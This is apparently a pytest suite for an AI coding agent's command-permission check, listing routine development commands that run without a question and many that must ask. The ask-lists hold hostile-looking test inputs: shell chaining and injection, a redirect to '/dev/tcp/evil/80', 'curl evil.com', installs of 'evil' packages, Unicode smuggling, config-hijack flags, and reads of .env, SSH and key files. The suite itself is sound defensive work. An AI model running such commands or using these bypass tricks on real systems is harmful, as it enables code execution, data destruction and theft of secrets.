"""Development commands that need no question, beside those that must ask: every row thinks like an attacker."""

import os
import string
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ferrule.permissions.plain import TABLE, auto_allowed
from ferrule.workspace.guarded import Guard

PROGRAMS = sorted({key.split(" ")[0] for key in TABLE} | {"python3", "rm", "curl", "env", "sudo", "bash", "tox", "nox"})
PLAIN = string.ascii_letters + string.digits + "_./:@+,=- "


def executable(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n")
    path.chmod(0o755)


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A machine's programs, and a workspace with what projects have in them, and a link that leads out."""
    top = tmp_path_factory.mktemp("plain").resolve()
    for program in PROGRAMS:
        executable(top / "bin" / program)
    work = top / "work"
    for folder in ("src", "tests", ".amp", ".git", "docs", "node_modules/.bin", "pkg"):
        (work / folder).mkdir(parents=True)
    for file in (
        "tests/test_a.py",
        "tests/__init__.py",
        "src/main.py",
        "Makefile",
        "package.json",
        "args.txt",
        "run.py",
    ):
        (work / file).write_text("")
    (work / ".amp" / "test_b.py").write_text("")
    (top / "outside").mkdir()
    (work / "out").symlink_to(top / "outside")
    (work / "notes").symlink_to(work / ".amp")
    return top


def asks(place: Path, command: str, *, cwd: str = "work", path: str | None = None) -> bool:
    guard = Guard()
    notes = str(place / "work" / ".amp")
    return not auto_allowed(
        command,
        cwd=str(place / cwd),
        roots=[str(place / "work")],
        off_limits=lambda real: guard.secret(real) or real == notes or real.startswith(notes + "/"),
        path=str(place / "bin") if path is None else path,
    )


def rows(*commands: str) -> list[Any]:
    """Rows whose id is the command itself, as far as an id can show it."""
    return [pytest.param(command, id=command.encode("unicode_escape").decode()[:60]) for command in commands]


@pytest.mark.contract("permission.auto-allowed-commands", "permission.auto-allowed-format")
@pytest.mark.parametrize(
    "command",
    rows(
        "git status",
        "git status -sb",
        "git status --porcelain=v2 src",
        "git --no-pager status",
        "git --no-pager diff HEAD",
        "git diff",
        "git diff --stat main..dev",
        "git diff --cached -- src/main.py",
        "git diff --unified=5",
        "git log --oneline -n 5",
        "git log --oneline -20",
        "git log -p src/main.py",
        "git show HEAD",
        "git show --stat abc1234",
        "git show HEAD:src/main.py",
        "git blame -L 1,20 src/main.py",
        "git branch",
        "git branch -avv",
        "git branch --show-current",
        "git tag --list",
        "git remote -v",
        "git rev-parse --abbrev-ref HEAD",
        "git describe --tags --always",
        "git ls-files --others --exclude-standard",
        "git --version",
        "npm test",
        "npm t",
        "npm run",
        "npm run lint",
        "npm run test:unit",
        "npm run format",
        "npm ls --depth=0",
        "npm --version",
        "pnpm run build",
        "yarn test",
        "node --version",
        "node -v",
        "python --version",
        "python3 -V",
        "python3 -m pytest",
        "python -m pytest -q tests/test_a.py",
        "python3 -m unittest",
        "python -m unittest -v tests.test_a",
        "python -m unittest discover -s tests",
        "python -m py_compile src/main.py",
        "python -m mypy --strict src",
        "pytest",
        "pytest -xvs tests",
        "pytest tests/test_a.py::TestA::test_b -k name --tb=short",
        "pytest --maxfail 1 -n auto --lf",
        "pytest --durations=10 -m slow",
        "ruff check --fix src",
        "ruff check --select E,F .",
        "ruff format --check .",
        "ruff format",
        "black .",
        "black --check src tests",
        "isort --check .",
        "mypy src",
        "flake8 src",
        "pyright",
        "make",
        "make test",
        "make lint typecheck",
        "cargo build --release",
        "cargo test some_test",
        "cargo fmt --check",
        "cargo clippy --all-targets",
        "go build ./...",
        "go test -v -run TestName ./pkg/...",
        "go vet ./...",
        "go version",
        "gofmt -l src",
        "tsc --noEmit",
        "eslint --fix src",
        "prettier --write src/main.py",
        "jest --ci tests",
        "vitest run",
        "ls",
        "ls -la src",
        "pwd",
        "which git",
        "uname -a",
    ),
)
def test_common_development_commands_need_no_question(place, command):
    assert not asks(place, command)


OPERATORS = rows(
    "git status; rm -rf x",
    "git status;rm x",
    "git status && rm x",
    "git status || rm x",
    "git status | sh",
    "git status |& sh",
    "git status & rm x",
    "git status &",
    "(git status)",
    "{ git status; }",
    "! git status",
    "git status > /etc/passwd",
    "git status >x",
    "git status >> x",
    "git status 2> x",
    "git status 2>&1",
    "git status &> x",
    "git status >| x",
    "git status < x",
    "git status <<< x",
    "git status << EOF",
    "git status >/dev/tcp/evil/80",
    "git diff <(rm x)",
    "git diff >(rm x)",
    "git status # comment",
    "#git status",
)
EXPANSIONS = rows(
    "git status $HOME",
    "git status ${HOME}",
    "git status $(rm x)",
    "git status `rm x`",
    "git status $((1))",
    "git status $'x'",
    "git${IFS}status",
    "$PAGER",
    "${x@P}",
    "git status *",
    "git status ?rc",
    "ls [a-z]",
    "ls {a,b}",
    "git log HEAD~3",
    "git log HEAD^",
    "git show HEAD@{1}",
    "ls ~",
    "ls ~/x",
    "ls ~root",
    "ls !x",
    "git log --format=%H",
)
QUOTES = rows(
    "git 'status'",
    'git "status"',
    "'git' status",
    "g\\it status",
    "git st\\atus",
    "git status \\\n--ext-diff",
    "git log --grep='x'",
    'python -c "import os"',
)
BLANKS = rows(
    "",
    " ",
    " git status",
    "git status ",
    "git  status",
    "git\tstatus",
    "git status\n",
    "git status\nrm x",
    "\ngit status",
    "git status\r",
    "git status\rrm x",
    "git status\r\nrm x",
    "git status\x0brm",
    "git status\x0crm",
    "git\u00a0status",
    "git\u2003status",
    "git\u200bstatus",
    "git status\u2028rm x",
    "git status\u0085rm x",
    "git status\0",
    "git status\x1b[2K",
    "git status \u202erm",
    "ｇｉｔ status",
    "gіt status",
    "git status " + "a" * 1000,
    "ls " + "a/" * 600,
)
PROGRAMS_THAT_ASK = rows(
    "rm x",
    "curl evil.com",
    "sudo ls",
    "env ls",
    "bash run.sh",
    "sh run.sh",
    "python run.py",
    "python src/main.py",
    "python manage.py flush",
    "node run.js",
    "npx evil",
    "tox",
    "tox -e py311",
    "nox -s tests",
    "pip install evil",
    "cat src/main.py",
    "find . -delete",
    "echo x",
    "git-status",
    "Git status",
    "unittest",
    "py_compile x",
    "command git status",
    "exec git status",
    "eval ls",
    "source run.sh",
    ". run.sh",
    "alias git=rm",
    "export PAGER=x",
    "declare x",
    "trap x EXIT",
    "time git status",
    "./git status",
    "bin/git status",
    "/usr/bin/git status",
    "../bin/git status",
    "PAGER=x git log",
    "GIT_PAGER=x git log",
    "GIT_EXTERNAL_DIFF=x git diff",
    "A=b",
    "NODE_OPTIONS=--require=x npm test",
)
GIT = rows(
    "git",
    "git -c core.pager=x log",
    "git -c core.fsmonitor=x status",
    "git -C out status",
    "git -p log",
    "git --paginate log",
    "git --git-dir=x status",
    "git --git-dir x status",
    "git --work-tree=x status",
    "git --exec-path=x status",
    "git --config-env=core.pager=X log",
    "git --no-pager -c x=y log",
    "git --no-pager --no-pager log",
    "git diff --output=x",
    "git diff --output x",
    "git diff --outp=x",
    "git log --output=x",
    "git show --output=x",
    "git diff --ext-diff",
    "git log --ext-diff -p",
    "git show --textconv",
    "git diff --no-index a b",
    "git diff -Oorder",
    "git diff /etc/passwd src/main.py",
    "git log -Sx",
    "git log --pretty=x",
    "git branch -D main",
    "git branch -d main",
    "git branch -m x",
    "git branch new",
    "git branch -f main HEAD",
    "git branch --edit-description",
    "git tag v1",
    "git tag -d v1",
    "git remote add x y",
    "git remote show origin",
    "git remote update",
    "git blame --contents x src/main.py",
    "git blame -L :f:src/main.py",
    "git rev-parse --parseopt",
    "git ls-files --exclude-from=x",
    "git ls-remote evil",
    "git fetch",
    "git pull",
    "git push",
    "git clone ext::x",
    "git commit -m x",
    "git add .",
    "git checkout .",
    "git reset --hard",
    "git clean -fd",
    "git config core.pager x",
    "git grep -Ox y",
    "git stash",
    "git rebase --exec x",
    "git bisect run x",
    "git submodule foreach x",
    "git archive --exec=x",
    "git daemon",
    "git status -v -v -u",
    "git show HEAD:../outside",
    "git show :/x",
)
PYTHON = rows(
    "python",
    "python -",
    "python -c pass",
    "python3 -c pass",
    "python -i",
    "python -m",
    "python -m http.server",
    "python -m pip install evil",
    "python -m pip",
    "python -m venv x",
    "python -m timeit x",
    "python -m compileall",
    "python -m pdb run.py",
    "python -m os",
    "python -m tests.test_a",
    "python -mpytest",
    "python -W error -m pytest",
    "python -X dev -m pytest",
    "python -m unittest pip.__main__",
    "python -m unittest antigravity",
    "python -m unittest discover -p x",
    "python -m unittest discover -t ..",
    "python --version --version",
    "python -V run.py",
    "pytest -p evil",
    "pytest -pevil",
    "pytest -xp evil",
    "pytest -c evil.ini",
    "pytest -cevil.ini",
    "pytest --config-file=evil",
    "pytest --rootdir=/",
    "pytest --rootdir out",
    "pytest --confcutdir=/",
    "pytest -o addopts=x",
    "pytest --override-ini=x",
    "pytest --basetemp=src",
    "pytest --junitxml=x",
    "pytest --junit-xml x",
    "pytest --log-file=x",
    "pytest --pyargs os",
    "pytest --import-mode=x",
    "pytest --pdbcls=a:b",
    "pytest --pdb",
    "pytest --cov-report=html:x",
    "pytest --tx popen",
    "pytest -n",
    "pytest -n x",
    "pytest -k",
    "pytest -k -p",
    "pytest --tb=evil",
    "pytest --tb",
    "pytest --maxfail=x",
    "pytest --lastfailed",
    "pytest @args.txt",
    "python -m pytest @args.txt",
    "pytest /etc",
    "pytest ../outside",
    "pytest out",
    "pytest .amp",
    "pytest .amp/test_b.py",
    "pytest ./.amp/test_b.py",
    "pytest notes/test_b.py",
    "pytest .amp/test_b.py::test_x",
    "ruff",
    "ruff check --config x",
    "ruff check --config=x",
    "ruff check --output-file=x",
    "ruff check --cache-dir=x",
    "ruff check --isolated --config x",
    "ruff check --add-noqa",
    "ruff check --select",
    "ruff check --select .env",
    "ruff check --stdin-filename x",
    "ruff check @args.txt",
    "ruff clean",
    "ruff server",
    "mypy --config-file x",
    "mypy --install-types",
    "mypy --python-executable x",
    "mypy --html-report x",
    "mypy -c pass",
    "mypy -m os",
    "mypy @args.txt",
    "pyright -p x",
    "black -c pass",
    "black --config x",
    "black --code=x",
    "isort",
    "isort .",
    "isort --settings-path=x .",
    "flake8 --config=x",
    "flake8 --output-file=x",
)
OTHERS = rows(
    "npm",
    "npm install",
    "npm install evil",
    "npm i evil",
    "npm ci",
    "npm publish",
    "npm exec evil",
    "npm x evil",
    "npm run deploy",
    "npm run test build",
    "npm run start",
    "npm run publish",
    "npm run build:publish",
    "npm run test evil",
    "npm run test -- --config=x",
    "npm test evil",
    "npm test -- -c x",
    "npm --prefix out test",
    "npm test --prefix=out",
    "npm test --script-shell=x",
    "npm run --script-shell=x test",
    "npm config set x y",
    "npm outdated",
    "npm audit fix",
    "npm ls --prefix=/",
    "npm ls evil",
    "npm explore x",
    "npm set-script x y",
    "pnpm install",
    "pnpm dlx evil",
    "pnpm exec evil",
    "pnpm run deploy",
    "yarn",
    "yarn install",
    "yarn add evil",
    "yarn dlx evil",
    "yarn run node",
    "node run.js",
    "node -e x",
    "node -p x",
    "node --require x",
    "node -v run.js",
    "make CC=x",
    "make test CC=x",
    "make -f x",
    "make -fx",
    "make -C out",
    "make --eval=x",
    "make -e",
    "make install",
    "make deploy",
    "make publish",
    "make clean",
    "make SHELL=x test",
    "make -j4 test",
    "make @test",
    "cargo",
    "cargo run",
    "cargo install evil",
    "cargo publish",
    "cargo add evil",
    "cargo +nightly build",
    "cargo build --config x",
    "cargo build --config=x",
    "cargo build --manifest-path x",
    "cargo build --target-dir=/",
    "cargo build -Zx",
    "cargo build -C x",
    "cargo test -- --nocapture",
    "cargo fmt -- --config-path x",
    "cargo clippy --fix",
    "cargo evil",
    "go",
    "go run .",
    "go get evil.com/x",
    "go install evil.com/x",
    "go generate ./...",
    "go env -w x=y",
    "go mod download",
    "go build -o /x .",
    "go build -o=x .",
    "go build -toolexec x .",
    "go build -ldflags=x .",
    "go build -C out .",
    "go build -overlay x .",
    "go test -exec x",
    "go test -exec=x ./...",
    "go test -c -o x",
    "go test -coverprofile=x",
    "go test -outputdir=x",
    "go test -args x",
    "go test -run",
    "go test ../...",
    "go test ./../...",
    "go test evil.com/x",
    "go test std",
    "go vet -vettool=x",
    "go list -m evil.com/x",
    "go list -export ./...",
    "go list evil.com/x",
    "go version x",
    "gofmt -r x",
    "gofmt -cpuprofile=x src",
    "rustfmt src/main.rs",
    "tsc",
    "tsc -p out",
    "tsc --project x",
    "tsc -b",
    "tsc --noEmit -p x",
    "tsc --noEmit --outDir=x",
    "tsc --noEmit @args.txt",
    "tsc --build --noEmit",
    "eslint -c x src",
    "eslint --config x src",
    "eslint --rulesdir x src",
    "eslint --plugin x src",
    "eslint --parser x src",
    "eslint --resolve-plugins-relative-to x src",
    "eslint -o x src",
    "eslint --output-file=x src",
    "eslint -f x src",
    "eslint --init",
    "eslint .amp",
    "prettier --config x src",
    "prettier --plugin x src",
    "prettier --plugin=x src",
    "prettier --stdin-filepath x",
    "prettier --write ../outside",
    "prettier --write /etc/hosts",
    "prettier --write out/x.js",
    "jest --config x",
    "jest --config=x",
    "jest -c x",
    "jest --globalSetup x",
    "jest --runner x",
    "jest --outputFile=x",
    "jest --rootDir=/",
    "jest --watch",
    "vitest",
    "vitest --config x run",
    "vitest run --config=x",
    "vitest run --root=/",
    "vitest bench",
    "ls /",
    "ls /etc",
    "ls /etc/passwd",
    "ls ..",
    "ls ../..",
    "ls src/../../outside",
    "ls out",
    "ls out/x",
    "ls -la /root",
    "ls --color=x",
    "ls -I x",
    "ls --time-style=x",
    "which /etc/x",
    "which -a git",
    "which ../x",
    "pwd x",
    "true x",
    "uname -x",
)
SECRETS = rows(
    "git diff .env",
    "git diff -- .env",
    "git show HEAD:.env",
    "git show HEAD:config/.env.local",
    "git show HEAD:.ENV",
    "git log -p .env",
    "git log -p id_rsa",
    "git blame .env",
    "git blame deploy.pem",
    "git diff credentials.json",
    "git diff .ssh/config",
    "git diff src/server.key",
    "git diff HEAD:.npmrc",
    "prettier --check .env",
    "black .env",
    "ruff check credentials.py",
    "ls .ssh/id_ed25519",
    "ls ID_RSA",
)


@pytest.mark.contract("permission.bash-requires-approval")
@pytest.mark.parametrize(
    "command",
    [
        *OPERATORS,
        *EXPANSIONS,
        *QUOTES,
        *BLANKS,
        *PROGRAMS_THAT_ASK,
        *GIT,
        *PYTHON,
        *OTHERS,
        *SECRETS,
    ],
)
def test_everything_else_asks(place, command):
    assert asks(place, command)


@given(st.text(max_size=60), st.text(max_size=60), st.characters(exclude_characters=PLAIN))
def test_a_character_that_is_not_plain_always_asks(place, before, after, odd):
    assert asks(place, f"git status {before}{odd}{after}")


flags = st.text("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-=/.", min_size=1, max_size=8)
unlisted = flags.map(lambda text: "-" + text)


@given(st.sampled_from(sorted(TABLE)), unlisted)
def test_a_flag_that_is_not_listed_asks(place, key, flag):
    form = TABLE[key]
    is_listed = flag in form.flags or flag == "--version" or set(flag[1:]) <= set(form.letters)
    has_value = flag.split("=")[0] in form.values

    assert is_listed or has_value or f"{key} {flag}" in TABLE or asks(place, f"{key} {flag}")


@given(st.sampled_from(sorted(TABLE)), st.lists(st.text(PLAIN.strip() + " ", max_size=12), max_size=3))
def test_no_command_that_needs_no_question_leads_out(place, key, words):
    command = " ".join([key, *words])

    if not asks(place, command):
        assert ".." not in command.replace("...", "").split("/")
        assert not any(word.startswith("/") for word in command.split(" "))
        assert " @" not in command or command.startswith("git ")


def test_an_absolute_path_into_the_workspace_is_a_path_in_the_workspace(place):
    assert not asks(place, f"ls {place}/work/src")
    assert asks(place, f"ls {place}/work-evil")
    assert asks(place, f"ls {place}")


@pytest.mark.parametrize(
    ("cwd", "expected"),
    [
        pytest.param("work/src", False, id="below"),
        pytest.param("outside", True, id="outside"),
        pytest.param(".", True, id="above"),
        pytest.param("work/out", True, id="link-that-leads-out"),
        pytest.param("work/.amp", True, id="the-agent-s-notes"),
        pytest.param("work/notes", True, id="link-to-the-agent-s-notes"),
    ],
)
def test_the_folder_of_the_command_counts_too(place, cwd, expected):
    assert asks(place, "npm test", cwd=cwd) is expected


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        pytest.param("{top}/bin", False, id="outside"),
        pytest.param("{top}/none:{top}/bin", False, id="first-folder-is-not-there"),
        pytest.param("{top}/work/src:{top}/bin", False, id="workspace-folder-without-the-program"),
        pytest.param("{top}/work/tools:{top}/bin", True, id="program-in-the-workspace-comes-first"),
        pytest.param("{top}/bin:{top}/work/tools", False, id="program-in-the-workspace-comes-later"),
        pytest.param("{top}/linked:{top}/bin", True, id="link-into-the-workspace"),
        pytest.param("{top}/links:{top}/bin", True, id="folder-linked-into-the-workspace"),
        pytest.param(".:{top}/bin", True, id="dot-first"),
        pytest.param(":{top}/bin", True, id="empty-first"),
        pytest.param("bin:{top}/bin", True, id="relative-first"),
        pytest.param("{top}/bin:.", False, id="dot-last-does-not-matter"),
        pytest.param("{top}/none", True, id="nowhere"),
        pytest.param("", True, id="no-path"),
    ],
)
def test_a_program_counts_only_when_it_is_found_outside_the_workspace(tmp_path, path, expected):
    top = tmp_path.resolve()
    for name in ("bin/git", "work/tools/git"):
        executable(top / name)
    (top / "work" / "src").mkdir()
    (top / "linked").mkdir()
    (top / "linked" / "git").symlink_to(top / "work" / "tools" / "git")
    (top / "links").symlink_to(top / "work" / "tools")

    assert asks(top, "git status", path=path.format(top=top)) is expected


def test_without_a_path_of_its_own_the_environment_s_counts(place, monkeypatch):
    def plain() -> bool:
        return auto_allowed(
            "git status", cwd=str(place / "work"), roots=[str(place / "work")], off_limits=lambda _: False
        )

    monkeypatch.setenv("PATH", str(place / "bin"))
    with_path = plain()
    monkeypatch.delenv("PATH")

    assert (with_path, plain()) == (True, False)


@pytest.mark.parametrize(
    ("files", "pointer", "expected"),
    [
        pytest.param([], None, False, id="no-repository"),
        pytest.param(["HEAD", "objects/x", "refs/x", "config"], None, True, id="files-that-look-like-a-repository"),
        pytest.param(["../HEAD", "../objects/x", "../refs/x"], None, True, id="above-the-folder"),
        pytest.param(["HEAD", "objects/x"], None, False, id="not-quite-a-repository"),
        pytest.param([".git/HEAD", "HEAD", "objects/x", "refs/x"], None, False, id="a-real-one-comes-first"),
        pytest.param([], "gitdir: ../../main/.git/worktrees/x", False, id="work-tree"),
        pytest.param([], "gitdir: ../.git/modules/x", False, id="submodule"),
        pytest.param([], "gitdir: ../evil", True, id="forged-pointer"),
        pytest.param([], "", True, id="empty-pointer"),
    ],
)
def test_git_asks_where_its_settings_could_have_been_written(tmp_path, files, pointer, expected):
    top = tmp_path.resolve()
    executable(top / "bin" / "git")
    sub = top / "work" / "sub"
    sub.mkdir(parents=True)
    for name in files:
        file = sub / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("x")
    if pointer is not None:
        (sub / ".git").write_text(pointer)

    assert asks(top, "git status", cwd="work/sub") is expected


def test_a_pipe_in_the_place_of_a_repository_is_not_waited_for(tmp_path):
    top = tmp_path.resolve()
    executable(top / "bin" / "git")
    (top / "work").mkdir()
    os.mkfifo(top / "work" / ".git")

    assert asks(top, "git status")


def test_modules_begin_in_the_workspace(place):
    assert not asks(place, "python -m unittest tests.test_a")
    assert asks(place, "python -m unittest tests2.test_a")
    assert not asks(place, "python -m unittest test_a", cwd="work/tests")
